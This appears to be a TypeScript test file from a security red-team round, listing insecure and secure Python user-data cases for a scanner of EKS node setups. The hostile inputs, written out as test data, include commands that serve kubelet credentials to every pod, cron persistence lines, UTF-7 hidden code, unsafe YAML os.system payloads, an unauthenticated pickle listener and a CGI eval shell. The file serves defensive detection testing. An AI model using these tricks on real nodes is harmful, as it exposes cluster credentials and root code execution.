// Red-team round 73 (python, fresh eyes) on EKS NODE user data: root Python programs. Skipped (another fixer's):
// functools.partial/map of write calls, os.environ PYTHONBREAKPOINT + breakpoint(), `from importlib import
// import_module`, pip-installed imports.
// Probed (insecure, 44): source encodings (utf-7 coding declarations, both PEP 263 forms); doctest testmod/testfile;
// shell runners as values (atexit.register, Thread target, Timer, Executor.submit, signal handlers); shell lines
// (Popen cwd= a server's directory, os.chdir + http.server.test, getoutput, spawnlp, execlp, an f-string shell=True,
// env wrapper); children's PYTHONPATH by os.putenv / os.environ.update; site (addsitedir .pth, /usr/local site .pth,
// usercustomize); a directory's __main__.py, zipapp archives (CLI and create_archive), stdin programs (heredoc, pipe);
// SourceFileLoader; loads that run code (multiprocessing Listener recv, yaml Loader=UnsafeLoader/unsafe_load/Loader
// positional, marshal + FunctionType, numpy allow_pickle); ctypes/cffi libc system; servers (http.server --cgi, a
// CGIHTTPRequestHandler by code, socketserver handler, wsgiref apps); writes (shutil.move, Path.replace, basicConfig).
// Secure (15): utf-8 declaration, a pure doctest, atexit/thread/signal with data writes, subprocess cwd= a data dir,
// getoutput uname, a directory __main__ that prints, a stdin program that prints, multiprocessing.Pool, an echo
// socketserver, ctypes getpid, addsitedir of a plain module, data-path move/replace/basicConfig, yaml SafeLoader, a pure
// wsgiref app, numpy.load without pickles.
// Misses: insecure 11 of 44 accepted, by class:
// - SOURCE-ENCODING (2): a utf-7 coding declaration turns "+AAo-" in a comment into a new line of code the pack never
//   sees (pythonCode.ts reads bytes as UTF-8). Fix: a non-UTF-8/ASCII/Latin-1 declaration = unread code.
// - OPAQUE-ARCHIVE-SCRIPT (2): python3 app.pyz (zipapp CLI / create_archive) runs a __main__.py the pack never reads.
//   Fix: a non-.py script user data did not write as text is unread code.
// - CODE-RUNNING-LOADS (4): yaml.load(Loader=UnsafeLoader / yaml.Loader positional), yaml.unsafe_load (python/object/
//   apply), numpy.load(allow_pickle=True). Fix: unsafe YAML loaders and numpy pickles join pickle in PYTHON_DYNAMIC_NAMES.
// - SERVED-CODE (3): `python3 -m http.server --cgi` (CGI scripts run per request; the code form is refused) and
//   wsgiref make_server apps (never read, both import forms). Fix: --cgi serves a shell; WSGI apps judged for purity.
// Secure 2 of 15 refused, both fail-closed by design (doctest and ctypes are in PYTHON_DYNAMIC_NAMES): a pure doctest,
// ctypes libc getpid. The lead may rule them DECIDED.
// Held: threads/atexit/signals/executors with runners as values, every shell-line form, putenv/environ.update
// PYTHONPATH, addsitedir/.pth/usercustomize, directory __main__, stdin programs, SourceFileLoader, multiprocessing
// Listener, marshal, ctypes/cffi system, CGI handler in code, socketserver handlers, move/replace/basicConfig writes.
// Each `// MISS:` comment says why and the fix (round 74: all fixed or DECIDED, see each case).
import { describeNodeCases, devNodeCase, devNodeScript, heredocFile, NodeCase } from "./nodeBuilders";

const dev = devNodeCase;

/** What a refusal names: the server, the program, a write root reads, or code it does not read. */
const REFUSED = /serv|8001|6000|kubernetes|tune\.py|srv|unread|not read|writes|cron|program|PYTHON|shell|run/;

/** The cron line the insecure writes put in root's cron: a server of /etc/kubernetes on 0.0.0.0:8001. */
const CRON = "@reboot root cd /etc/kubernetes && python3 -m http.server 8001\\n";
/** The same as a shell command run by the program. */
const SERVE = "cd /etc/kubernetes && nohup python3 -m http.server 8001 >/dev/null 2>&1 &";

/** /opt/ops/srv.py: a server of /etc/kubernetes (the kubelet's credentials) on 0.0.0.0:8001, `main()` serving. */
const SERVER = [
    "import functools, http.server",
    "def main(*a, **k):",
    '    h = functools.partial(http.server.SimpleHTTPRequestHandler, directory="/etc/kubernetes")',
    '    http.server.ThreadingHTTPServer(("0.0.0.0", 8001), h).serve_forever()',
];

/** /opt/ops/tune.py (`lines`) run as root from /var/lib/ops (a data directory); `before` shell lines first. */
const tune = (name: string, lines: string[], before: string[] = []) =>
    devNodeScript(name, [
        "mkdir -p /var/lib/ops /var/cache/ops /var/log/ops",
        ...before,
        ...heredocFile("/opt/ops/tune.py", lines),
        "cd /var/lib/ops && python3 /opt/ops/tune.py",
    ]);

/** tune.py with srv.py (SERVER) beside it in /opt/ops, run from /opt/ops. */
const withSrv = (name: string, lines: string[], before: string[] = []) =>
    devNodeScript(name, [
        ...before,
        ...heredocFile("/opt/ops/srv.py", SERVER),
        ...heredocFile("/opt/ops/tune.py", lines),
        "cd /opt/ops && nohup python3 /opt/ops/tune.py >/var/log/tune.log 2>&1 &",
    ]);

/** hello.py: prints, imports json (a stdlib name a planted module may shadow). */
const HELLO = ["import json", 'print(json.dumps({"hello": 1}))'];

const insecure: NodeCase[] = [
    // --- source the pack reads differently from CPython ---
    // PEP 263 / Python reference "Encoding declarations" (a comment matching coding[=:]\s*([-\w.]+) on line 1 or 2
    // names the source encoding, "used for all lexical analysis"); Python docs "codecs" (utf_7, RFC 2152: "+AAo-" is
    // U+000A). Checked with CPython 3: the comment line decodes to "# " and a NEW LINE running open(...).
    // Was a MISS (fixed in round 74): PEP 263 / Python reference "Encoding declarations" (line 1 or 2 matching coding[=:]\s*([-\w.]+) names the
    // codec "used for all lexical analysis") and Python docs "codecs" (utf_7, RFC 2152 modified base64: "+AAo-" decodes
    // to U+000A): CPython 3 decodes the comment into "# " and a NEW LINE open('/etc/cron.d/ops', 'w').write(...) (checked:
    // a "+AAo-print('hidden')" comment prints). Root writes /etc/cron.d/ops, a server of /etc/kubernetes (the kubelet's
    // credentials) for every pod. The pack reads the file's bytes as UTF-8 text (pythonCalls/pythonWriteRefusal,
    // userDataReaders/pythonCode.ts), sees a comment: got []. Fix: in every Python file the pack reads (pythonEntry,
    // pythonImportClosure), a coding declaration on line 1/2 naming any codec but utf-8/ascii/latin-1 aliases (or any
    // whose decoding of the bytes differs from UTF-8's) makes the file code the pack does not read (pythonUnreadCode).
    dev(
        "tune.py: # -*- coding: utf-7 -*- then a comment hiding +AAo-open('/etc/cron.d/ops', 'w').write(cron line)",
        tune("dev-py73p-utf7-comment-nodes", [
            "# -*- coding: utf-7 -*-",
            `# +AAo-open('/etc/cron.d/ops', 'w').write('${CRON}')`,
            'print("tuned")',
        ]),
        REFUSED,
    ),
    // Python docs "doctest": testmod() "Test examples in docstrings in functions and classes reachable from module m",
    // each `>>>` line is executed.
    dev(
        "tune.py: doctest.testmod() running a docstring's >>> open('/etc/cron.d/ops', 'w').write(cron line)",
        tune("dev-py73p-doctest-testmod-nodes", [
            "import doctest",
            "def tune():",
            '    """',
            `    >>> open('/etc/cron.d/ops', 'w').write('${CRON}') > 0`,
            "    True",
            '    """',
            "doctest.testmod()",
        ]),
        REFUSED,
    ),
    // Python docs "doctest": testfile(filename, module_relative=True, ...) runs the examples of a text file.
    dev(
        "tune.py: doctest.testfile('/opt/ops/t.txt', module_relative=False) whose >>> imports srv and serves",
        withSrv(
            "dev-py73p-doctest-testfile-nodes",
            ["import doctest", 'doctest.testfile("/opt/ops/t.txt", module_relative=False)'],
            heredocFile("/opt/ops/t.txt", [">>> import srv; srv.main()"]),
        ),
        REFUSED,
    ),
    // --- shell runners passed as values (atexit, threads, timers, executors, signal handlers) ---
    // Python docs "atexit.register(func, *args, **kwargs)": func(*args) runs at normal termination.
    dev(
        "tune.py: atexit.register(os.system, SERVE) (a server of /etc/kubernetes at exit)",
        tune("dev-py73p-atexit-system-nodes", ["import atexit, os", `atexit.register(os.system, "${SERVE}")`]),
        REFUSED,
    ),
    // Python docs "threading.Thread(target=None, args=())": run() invokes target(*args).
    dev(
        "tune.py: threading.Thread(target=os.system, args=(SERVE,)).start()",
        tune("dev-py73p-thread-system-nodes", [
            "import os, threading",
            `threading.Thread(target=os.system, args=("${SERVE}",)).start()`,
        ]),
        REFUSED,
    ),
    // Python docs "threading.Timer(interval, function, args=None, kwargs=None)".
    dev(
        "tune.py: threading.Timer(1, subprocess.run, args=(['sh', '-c', SERVE],)).start()",
        tune("dev-py73p-timer-subprocess-nodes", [
            "import subprocess, threading",
            `threading.Timer(1, subprocess.run, args=(["sh", "-c", "${SERVE}"],)).start()`,
        ]),
        REFUSED,
    ),
    // Python docs "concurrent.futures": Executor.submit(fn, /, *args, **kwargs) "Schedules the callable, fn, to be
    // executed as fn(*args, **kwargs)".
    dev(
        "tune.py: ThreadPoolExecutor().submit(os.system, SERVE)",
        tune("dev-py73p-executor-system-nodes", [
            "import os",
            "from concurrent.futures import ThreadPoolExecutor",
            "with ThreadPoolExecutor(1) as ex:",
            `    ex.submit(os.system, "${SERVE}")`,
        ]),
        REFUSED,
    ),
    // Python docs "signal.signal(signalnum, handler)": the handler runs on the signal; signal.alarm(1) sends SIGALRM.
    dev(
        "tune.py: signal.signal(SIGALRM, lambda s, f: os.system(SERVE)); signal.alarm(1); signal.pause()",
        tune("dev-py73p-signal-handler-nodes", [
            "import os, signal",
            `signal.signal(signal.SIGALRM, lambda s, f: os.system("${SERVE}"))`,
            "signal.alarm(1)",
            "signal.pause()",
        ]),
        REFUSED,
    ),
    // --- runs judged as shell lines ---
    // Python docs "subprocess.Popen(..., cwd=None)": "the function changes the working directory to cwd before
    // executing the child"; http.server serves "the current directory" by default.
    dev(
        "tune.py: subprocess.Popen(['python3', '-m', 'http.server', '8001'], cwd='/etc/kubernetes')",
        tune("dev-py73p-popen-cwd-server-nodes", [
            "import subprocess",
            'subprocess.Popen(["python3", "-m", "http.server", "8001"], cwd="/etc/kubernetes")',
        ]),
        REFUSED,
    ),
    // Python docs "os.chdir"; "http.server": test() serves SimpleHTTPRequestHandler's directory, the cwd by default.
    dev(
        "tune.py: os.chdir('/etc/kubernetes'); http.server.test(HandlerClass=SimpleHTTPRequestHandler, port=8001)",
        tune("dev-py73p-chdir-http-test-nodes", [
            "import os, http.server",
            'os.chdir("/etc/kubernetes")',
            'http.server.test(HandlerClass=http.server.SimpleHTTPRequestHandler, port=8001, bind="0.0.0.0")',
        ]),
        REFUSED,
    ),
    // Python docs "subprocess.getoutput(cmd)": "Return output ... of executing cmd in a shell".
    dev(
        "tune.py: subprocess.getoutput('cp /var/lib/ops/c /etc/cron.d/ops') (a shell line writing cron)",
        tune("dev-py73p-getoutput-cp-nodes", [
            "import subprocess",
            `open("/var/lib/ops/c", "w").write("${CRON}")`,
            'subprocess.getoutput("cp /var/lib/ops/c /etc/cron.d/ops")',
        ]),
        REFUSED,
    ),
    // Python docs "os.spawnlp(mode, file, ...)": runs file searched on PATH with the given arguments.
    dev(
        "tune.py: os.spawnlp(os.P_WAIT, 'sh', 'sh', '-c', SERVE)",
        tune("dev-py73p-spawnlp-nodes", ["import os", `os.spawnlp(os.P_WAIT, "sh", "sh", "-c", "${SERVE}")`]),
        REFUSED,
    ),
    // Python docs "os.execlp(file, arg0, arg1, ...)".
    dev(
        "tune.py: os.execlp('sh', 'sh', '-c', SERVE)",
        tune("dev-py73p-execlp-nodes", ["import os", `os.execlp("sh", "sh", "-c", "${SERVE}")`]),
        REFUSED,
    ),
    // Python docs "subprocess" (shell=True: "args ... a string ... executed through the shell"), the string an f-string.
    dev(
        "tune.py: subprocess.run(f'echo {LINE} > /etc/cron.d/ops', shell=True) (an f-string shell line)",
        tune("dev-py73p-fstring-shell-nodes", [
            "import subprocess",
            `LINE = "${CRON.replace("\\n", "")}"`,
            "subprocess.run(f\"echo '{LINE}' > /etc/cron.d/ops\", shell=True)",
        ]),
        REFUSED,
    ),
    // env(1) "run a program in a modified environment": env sh -c runs sh.
    dev(
        "tune.py: subprocess.run(['/usr/bin/env', 'sh', '-c', SERVE]) (a wrapper program)",
        tune("dev-py73p-env-wrapper-nodes", [
            "import subprocess",
            `subprocess.run(["/usr/bin/env", "sh", "-c", "${SERVE}"])`,
        ]),
        REFUSED,
    ),
    // --- PYTHON* environment of children ---
    // Python docs "os.putenv(key, value)": "Such changes to the environment affect subprocesses started with
    // os.system(), popen() or fork() and execv()" (os.environ not updated); "PYTHONPATH": prepended to sys.path.
    dev(
        "tune.py: os.putenv('PYTHONPATH', '/opt/ops/lib') then os.system('python3 /opt/ops/hello.py') (json.py serves)",
        tune(
            "dev-py73p-putenv-pythonpath-nodes",
            [
                "import os",
                'os.putenv("PYTHONPATH", "/opt/ops/lib")',
                'os.system("cd /var/lib/ops && python3 /opt/ops/hello.py")',
            ],
            [
                ...heredocFile("/opt/ops/lib/json.py", SERVER.concat(["main()"])),
                ...heredocFile("/opt/ops/hello.py", HELLO),
            ],
        ),
        REFUSED,
    ),
    // Python docs "os.environ": "mapping ... updated ... calls putenv"; MutableMapping.update.
    dev(
        "tune.py: os.environ.update(PYTHONPATH='/opt/ops/lib') then subprocess.run(['python3', hello.py])",
        tune(
            "dev-py73p-environ-update-pythonpath-nodes",
            [
                "import os, subprocess",
                'os.environ.update(PYTHONPATH="/opt/ops/lib")',
                'subprocess.run(["python3", "/opt/ops/hello.py"])',
            ],
            [
                ...heredocFile("/opt/ops/lib/json.py", SERVER.concat(["main()"])),
                ...heredocFile("/opt/ops/hello.py", HELLO),
            ],
        ),
        REFUSED,
    ),
    // --- imports and site ---
    // Python docs "site.addsitedir(sitedir)": "Add a directory to sys.path and process its .pth files"; "site": lines
    // of a .pth starting with "import" are executed.
    dev(
        "tune.py: site.addsitedir('/opt/ops/site') whose ops.pth runs `import srv; srv.main()`",
        withSrv(
            "dev-py73p-addsitedir-pth-nodes",
            ["import site", 'site.addsitedir("/opt/ops/site")'],
            heredocFile("/opt/ops/site/ops.pth", ["import srv; srv.main()"]),
        ),
        REFUSED,
    ),
    // Python docs "site": site-packages under sys.prefix and exec_prefix; Fedora/AL2023's python3 adds
    // /usr/local/lib/python3.9/site-packages (Fedora "Python" packaging guidelines) where .pth import lines run.
    dev(
        "user data: /usr/local/lib/python3.9/site-packages/ops.pth imports srv (on every python3 start)",
        devNodeScript("dev-py73p-local-site-pth-nodes", [
            ...heredocFile("/usr/local/lib/python3.9/site-packages/srv.py", SERVER.concat(["main()"])),
            ...heredocFile("/usr/local/lib/python3.9/site-packages/ops.pth", ["import srv"]),
            ...heredocFile("/opt/ops/hello.py", HELLO),
            "cd /var/lib && python3 /opt/ops/hello.py",
        ]),
        REFUSED,
    ),
    // Python docs "site": "After this, an attempt is made to import a module named usercustomize" (ENABLE_USER_SITE);
    // root's user site is ~/.local/lib/pythonX.Y/site-packages.
    dev(
        "user data: /root/.local/lib/python3.9/site-packages/usercustomize.py serves /etc/kubernetes",
        devNodeScript("dev-py73p-usercustomize-nodes", [
            ...heredocFile("/root/.local/lib/python3.9/site-packages/usercustomize.py", SERVER.concat(["main()"])),
            ...heredocFile("/opt/ops/hello.py", HELLO),
            "cd /var/lib && HOME=/root python3 /opt/ops/hello.py",
        ]),
        REFUSED,
    ),
    // Python "Command line and environment" (<script>: "a directory name or zipfile containing a __main__.py file").
    dev(
        "user data: python3 /opt/ops/app (a directory whose __main__.py serves /etc/kubernetes)",
        devNodeScript("dev-py73p-dir-main-nodes", [
            ...heredocFile("/opt/ops/app/__main__.py", SERVER.concat(["main()"])),
            "cd /var/lib && nohup python3 /opt/ops/app >/var/log/app.log 2>&1 &",
        ]),
        REFUSED,
    ),
    // Python docs "zipapp": python -m zipapp SOURCE -o OUT writes an archive whose __main__.py python runs.
    // Was a MISS (fixed in round 74): Python docs "zipapp" ("python -m zipapp source -o target": an archive whose __main__.py runs when the
    // interpreter is given the archive) and "Command line and environment" (<script>: "a directory name or zipfile
    // containing a __main__.py file"): root runs /opt/ops/app/__main__.py, a server of /etc/kubernetes on 0.0.0.0:8001.
    // `python3 /opt/ops/app` (the directory) is refused (held above); the .pyz made from it is an opaque file the
    // entry (pythonEntry, pythonCode.ts: a directory's __main__.py only) does not read, and no server is judged: got [].
    // Fix: a python SCRIPT that is not a .py text user data wrote (a zip: .pyz/.zip, or a file made by a command: zipapp,
    // zip, cp) is code the pack does not read (pythonUnreadCode, fail closed), or zipapp's SOURCE directory is read as
    // the archive's contents.
    dev(
        "user data: python3 -m zipapp /opt/ops/app -o /opt/ops/app.pyz; python3 /opt/ops/app.pyz (serves)",
        devNodeScript("dev-py73p-zipapp-nodes", [
            ...heredocFile("/opt/ops/app/__main__.py", SERVER.concat(["main()"])),
            "python3 -m zipapp /opt/ops/app -o /opt/ops/app.pyz",
            "cd /var/lib && nohup python3 /opt/ops/app.pyz >/var/log/app.log 2>&1 &",
        ]),
        REFUSED,
    ),
    // python(1): "-" reads the program from standard input; a quoted here-document is that program.
    dev(
        "user data: python3 - <<'EOF' (a program on standard input serving /etc/kubernetes)",
        devNodeScript("dev-py73p-stdin-heredoc-nodes", [
            "cd /var/lib && nohup python3 - >/var/log/s.log 2>&1 <<'EOF' &",
            ...SERVER,
            "main()",
            "EOF",
        ]),
        REFUSED,
    ),
    // python(1): with no script argument and stdin not a tty, the program is read from standard input.
    dev(
        "user data: printf '%s\\n' ... | python3 (a piped program writing /etc/cron.d/ops)",
        devNodeScript("dev-py73p-stdin-pipe-nodes", [`echo "open('/etc/cron.d/ops', 'w').write('${CRON}')" | python3`]),
        REFUSED,
    ),
    // Python docs "importlib.machinery.SourceFileLoader(fullname, path)" (load_module: deprecated, still loads).
    dev(
        "tune.py: importlib.machinery.SourceFileLoader('s', '/opt/ops/lib/s.py').load_module().main()",
        tune(
            "dev-py73p-sourcefileloader-nodes",
            [
                "import importlib.machinery",
                'importlib.machinery.SourceFileLoader("s", "/opt/ops/lib/s.py").load_module().main()',
            ],
            heredocFile("/opt/ops/lib/s.py", SERVER),
        ),
        REFUSED,
    ),
    // --- loads that run code: pickle over a socket, YAML's python tags, marshal'd code, libc by ctypes/cffi ---
    // Python docs "multiprocessing.connection": Connection.recv() "Return an object sent from the other end ... The
    // object is automatically unpickled"; "Warning: ... Therefore, unless the connection object was produced using
    // Pipe() you should only use the recv() and send() methods after performing some sort of authentication"
    // (Listener(authkey=None): none). Any pod reaching the node's 6000 runs code as root.
    dev(
        "tune.py: multiprocessing.connection.Listener(('0.0.0.0', 6000)) recv() loop (unpickles, no authkey)",
        tune("dev-py73p-mp-listener-nodes", [
            "from multiprocessing.connection import Listener",
            'with Listener(("0.0.0.0", 6000)) as l:',
            "    while True:",
            "        with l.accept() as c:",
            '            print("got", c.recv())',
        ]),
        REFUSED,
    ),
    // PyYAML docs ("Loading YAML": yaml.load with Loader=UnsafeLoader/Loader constructs !!python/object/apply, calling
    // any callable): os.system runs.
    // Was a MISS (fixed in round 74): PyYAML docs ("yaml.load(input, Loader=yaml.UnsafeLoader)": "can construct arbitrary Python objects";
    // !!python/object/apply:os.system [cmd] calls os.system(cmd) while loading; PyYAML "PyYAML yaml.load(input)
    // Deprecation": FullLoader/UnsafeLoader): root runs a server of /etc/kubernetes on 0.0.0.0:8001. The pack reads
    // yaml.load as a read (yaml is in PYTHON_KNOWN_PACKAGES, pythonCode.ts; PYTHON_DYNAMIC_NAMES lists pickle/marshal/
    // shelve but no YAML loader): got []. Fix: yaml.load/load_all with Loader= or a second positional of Loader,
    // UnsafeLoader, FullLoader (PyYAML < 5.4 applies python/object/apply), CLoader/CUnsafeLoader/CFullLoader, and
    // yaml.unsafe_load/unsafe_load_all/full_load, are code the pack does not read (as pickle.load); SafeLoader/
    // CSafeLoader/BaseLoader and safe_load stay reads (held secure below).
    dev(
        "tune.py: yaml.load(open('/etc/ops/t.yaml'), Loader=yaml.UnsafeLoader) of !!python/object/apply:os.system",
        tune(
            "dev-py73p-yaml-unsafe-nodes",
            ["import yaml", 'print(yaml.load(open("/etc/ops/t.yaml"), Loader=yaml.UnsafeLoader))'],
            heredocFile("/etc/ops/t.yaml", [`run: !!python/object/apply:os.system ["${SERVE}"]`]),
        ),
        REFUSED,
    ),
    // Python docs "marshal" (code objects) and "types.FunctionType(code, globals)": calling runs the code object.
    dev(
        "tune.py: types.FunctionType(marshal.load(open('/var/cache/ops/c.bin', 'rb')), {})() (code not read)",
        tune("dev-py73p-marshal-function-nodes", [
            "import marshal, types",
            'types.FunctionType(marshal.load(open("/var/cache/ops/c.bin", "rb")), {})()',
        ]),
        REFUSED,
    ),
    // Python docs "ctypes" (CDLL("libc.so.6"); attribute access gives the C function): libc system(3) runs /bin/sh -c.
    dev(
        "tune.py: ctypes.CDLL('libc.so.6').system(SERVE) (libc's system)",
        tune("dev-py73p-ctypes-libc-system-nodes", ["import ctypes", `ctypes.CDLL("libc.so.6").system(b"${SERVE}")`]),
        REFUSED,
    ),
    // cffi docs ("ABI level": ffi.dlopen(None) "the standard C library"; ffi.cdef declares system).
    dev(
        "tune.py: cffi FFI().dlopen(None).system(SERVE) after cdef('int system(const char *);')",
        tune("dev-py73p-cffi-system-nodes", [
            "from cffi import FFI",
            "ffi = FFI()",
            'ffi.cdef("int system(const char *);")',
            `ffi.dlopen(None).system(b"${SERVE}")`,
        ]),
        REFUSED,
    ),
    // --- servers ---
    // Python docs "http.server": CGIHTTPRequestHandler (--cgi) runs cgi-bin scripts with the request's QUERY_STRING.
    // Was a MISS (fixed in round 74): Python docs "http.server" (command line: "--cgi ... CGIHTTPRequestHandler"; it runs scripts of /cgi-bin
    // and /htbin below its directory "instead of serving it as a file"): any pod requests /cgi-bin/run.sh?<cmd> and root
    // runs it (a served shell). The Python form, http.server.test(HandlerClass=CGIHTTPRequestHandler) is refused
    // (held below, commandServers.ts pythonFileServers' cgi); the command line's --cgi is only a known option
    // (listeners.ts HTTP_SERVER_LONG_OPTIONS) and /opt/ops a directory of user data's own files: got []. Fix: `python
    // -m http.server|CGIHTTPServer ... --cgi` (and CGIHTTPServer's module) serves { shell: "sh" } beyond loopback.
    dev(
        "user data: python3 -m http.server --cgi 8001 from /opt/ops whose cgi-bin/run.sh evals QUERY_STRING",
        devNodeScript("dev-py73p-cgi-eval-nodes", [
            ...heredocFile("/opt/ops/cgi-bin/run.sh", [
                "#!/bin/sh",
                'echo "Content-Type: text/plain"',
                "echo",
                'eval "$QUERY_STRING"',
            ]),
            "chmod +x /opt/ops/cgi-bin/run.sh",
            "cd /opt/ops && nohup python3 -m http.server --cgi 8001 >/var/log/cgi.log 2>&1 &",
        ]),
        REFUSED,
    ),
    // Python docs "socketserver" (StreamRequestHandler: rfile/wfile): handle() sends any file a client names.
    dev(
        "tune.py: socketserver.ThreadingTCPServer(('', 8001), H) whose handle sends open(name).read()",
        tune("dev-py73p-socketserver-file-nodes", [
            "import socketserver",
            "class H(socketserver.StreamRequestHandler):",
            "    def handle(self):",
            "        name = self.rfile.readline().strip().decode()",
            '        self.wfile.write(open(name, "rb").read())',
            'socketserver.ThreadingTCPServer(("", 8001), H).serve_forever()',
        ]),
        REFUSED,
    ),
    // PEP 3333 / Python docs "wsgiref.simple_server.make_server(host, port, app)": app returns any file by PATH_INFO.
    // Was a MISS (fixed in round 74): PEP 3333 / Python docs "wsgiref.simple_server.make_server(host, port, app)" (host "" every address;
    // env["PATH_INFO"] is the request's path): any pod GETs /etc/kubernetes/kubelet.conf (the kubelet's credentials)
    // from root. make_server is a known bind (PYTHON_SERVER_BINDS, pythonCode.ts) but only file-handler/Flask/Tornado
    // static APIs are judged (commandServers.ts pythonFileServers); the WSGI app callable is never read: got [] (the
    // pure app is accepted, held secure). Fix: the app passed to make_server (and wsgiref.simple_server.WSGIServer
    // set_app, waitress.serve, cheroot, ...) is judged like a socketserver handler body (PYTHON_HANDLER_* purity with
    // the environ as request data), or the server fails closed beyond loopback when its app is not known pure.
    dev(
        "tune.py: wsgiref make_server('', 8001, app) whose app returns open(PATH_INFO).read()",
        tune("dev-py73p-wsgiref-file-nodes", [
            "from wsgiref.simple_server import make_server",
            "def app(env, start):",
            '    start("200 OK", [("Content-Type", "text/plain")])',
            '    return [open(env["PATH_INFO"], "rb").read()]',
            'make_server("", 8001, app).serve_forever()',
        ]),
        REFUSED,
    ),
    // --- writes ---
    // Python docs "shutil.move(src, dst)": "Recursively move a file ... to another location".
    dev(
        "tune.py: shutil.move('/var/lib/ops/c', '/etc/cron.d/ops')",
        tune("dev-py73p-shutil-move-nodes", [
            "import shutil",
            `open("/var/lib/ops/c", "w").write("${CRON}")`,
            'shutil.move("/var/lib/ops/c", "/etc/cron.d/ops")',
        ]),
        REFUSED,
    ),
    // Python docs "pathlib": Path.rename(target) / Path.replace(target).
    dev(
        "tune.py: Path('/var/lib/ops/c').replace('/etc/cron.d/ops')",
        tune("dev-py73p-path-replace-nodes", [
            "from pathlib import Path",
            `Path("/var/lib/ops/c").write_text("${CRON}")`,
            'Path("/var/lib/ops/c").replace("/etc/cron.d/ops")',
        ]),
        REFUSED,
    ),
    // Python docs "logging.basicConfig" (filename: "a FileHandler be created"; format '%(message)s').
    dev(
        "tune.py: logging.basicConfig(filename='/etc/cron.d/ops', format='%(message)s'); logging.warning(cron line)",
        tune("dev-py73p-basicconfig-cron-nodes", [
            "import logging",
            'logging.basicConfig(filename="/etc/cron.d/ops", format="%(message)s")',
            `logging.warning("${CRON.replace("\\n", "")}")`,
        ]),
        REFUSED,
    ),
    // --- neighbours of the misses above ---
    // PEP 263: "# vim: set fileencoding=<encoding name> :" is a declaration too (the same regular expression).
    // Was a MISS (fixed in round 74): the same as the utf-7 coding case (PEP 263 lists the vim form "# vim: set fileencoding=<encoding name> :";
    // the regular expression matches it on line 2 after a #! line): got []. Same fix (any line-1/2 declaration).
    dev(
        "tune.py: # vim: set fileencoding=utf-7 : then a comment hiding +AAo-open('/etc/cron.d/ops', 'w')",
        tune("dev-py73p-utf7-vim-nodes", [
            "#!/usr/bin/env python3",
            "# vim: set fileencoding=utf-7 :",
            `# +AAo-open('/etc/cron.d/ops', 'w').write('${CRON}')`,
        ]),
        REFUSED,
    ),
    // PyYAML docs ("yaml.unsafe_load": "can construct arbitrary Python objects"; Loader=yaml.Loader likewise).
    // Was a MISS (fixed in round 74): PyYAML docs (yaml.unsafe_load: "loads ... and constructs arbitrary Python objects"): got []. Same fix.
    dev(
        "tune.py: yaml.unsafe_load(open('/etc/ops/t.yaml')) of !!python/object/apply:os.system",
        tune(
            "dev-py73p-yaml-unsafe-load-nodes",
            ["import yaml", 'print(yaml.unsafe_load(open("/etc/ops/t.yaml")))'],
            heredocFile("/etc/ops/t.yaml", [`run: !!python/object/apply:os.system ["${SERVE}"]`]),
        ),
        REFUSED,
    ),
    // Was a MISS (fixed in round 74): PyYAML "yaml.load(stream, Loader)": the loader positional; yaml.Loader is the full unsafe Loader: got [].
    // Same fix (read the loader by position 1 too).
    dev(
        "tune.py: yaml.load(open('/etc/ops/t.yaml'), yaml.Loader) of !!python/object/apply:os.system (positional)",
        tune(
            "dev-py73p-yaml-loader-positional-nodes",
            ["import yaml", 'print(yaml.load(open("/etc/ops/t.yaml"), yaml.Loader))'],
            heredocFile("/etc/ops/t.yaml", [`run: !!python/object/apply:os.system ["${SERVE}"]`]),
        ),
        REFUSED,
    ),
    // Python docs "wsgiref.simple_server.make_server(host, port, app, ...)", imported as a module.
    // Was a MISS (fixed in round 74): the same through a module alias: got []. Same fix.
    dev(
        "tune.py: import wsgiref.simple_server as ws; ws.make_server('0.0.0.0', 8001, app) (app returns any file)",
        tune("dev-py73p-wsgiref-module-nodes", [
            "import wsgiref.simple_server as ws",
            "def app(env, start):",
            '    start("200 OK", [])',
            '    return [open(env["PATH_INFO"], "rb").read()]',
            'ws.make_server("0.0.0.0", 8001, app).serve_forever()',
        ]),
        REFUSED,
    ),
    // Python docs "http.server": CGIHTTPRequestHandler runs scripts of cgi-bin below the cwd.
    dev(
        "tune.py from /opt/ops: http.server.test(HandlerClass=CGIHTTPRequestHandler, port=8001) (cgi-bin/run.sh evals)",
        devNodeScript("dev-py73p-cgi-handler-test-nodes", [
            ...heredocFile("/opt/ops/cgi-bin/run.sh", ["#!/bin/sh", "echo", 'eval "$QUERY_STRING"']),
            "chmod +x /opt/ops/cgi-bin/run.sh",
            ...heredocFile("/opt/ops/tune.py", [
                "import http.server",
                'http.server.test(HandlerClass=http.server.CGIHTTPRequestHandler, port=8001, bind="0.0.0.0")',
            ]),
            "cd /opt/ops && nohup python3 /opt/ops/tune.py >/var/log/tune.log 2>&1 &",
        ]),
        REFUSED,
    ),
    // Python docs "zipapp.create_archive(source, target=None, interpreter=None, main=None)".
    // Was a MISS (fixed in round 74): Python docs "zipapp.create_archive(source, target)"; the same opaque .pyz run by root: got []. Same fix.
    dev(
        "tune.py: zipapp.create_archive('/opt/ops/app', '/var/lib/ops/app.pyz') then user data runs python3 app.pyz",
        devNodeScript("dev-py73p-zipapp-create-nodes", [
            ...heredocFile("/opt/ops/app/__main__.py", SERVER.concat(["main()"])),
            "mkdir -p /var/lib/ops",
            'python3 -c \'import zipapp; zipapp.create_archive("/opt/ops/app", "/var/lib/ops/app.pyz")\'',
            "cd /var/lib && nohup python3 /var/lib/ops/app.pyz >/var/log/app.log 2>&1 &",
        ]),
        REFUSED,
    ),
    // NumPy docs "numpy.load(file, mmap_mode=None, allow_pickle=False, ...)": "allow_pickle: Allow loading pickled
    // object arrays stored in npy files ... Loading pickled data ... can execute arbitrary code"; a .npy holding a
    // pickled object array whose __reduce__ is os.system runs it as root.
    // Was a MISS (fixed in round 74): NumPy docs (numpy.load allow_pickle=True unpickles object arrays: "can execute arbitrary code"; Python docs
    // "pickle": "Only unpickle data you trust"): root runs whatever the .npy's pickle names (os.system of a server of
    // /etc/kubernetes). numpy is in PYTHON_KNOWN_PACKAGES (pythonCode.ts) and its calls are not in PYTHON_DYNAMIC_NAMES
    // (pickle/marshal/shelve are): got []. Fix: numpy.load/numpy.lib.format.read_array with allow_pickle= anything but
    // False/absent (and pandas.read_pickle, numpy.ndarray loads, if those packages are ever known) are pickle loads:
    // code the pack does not read.
    dev(
        "tune.py: numpy.load('/var/cache/ops/state.npy', allow_pickle=True) (an object array: unpickled)",
        tune("dev-py73p-numpy-allow-pickle-nodes", [
            "import numpy",
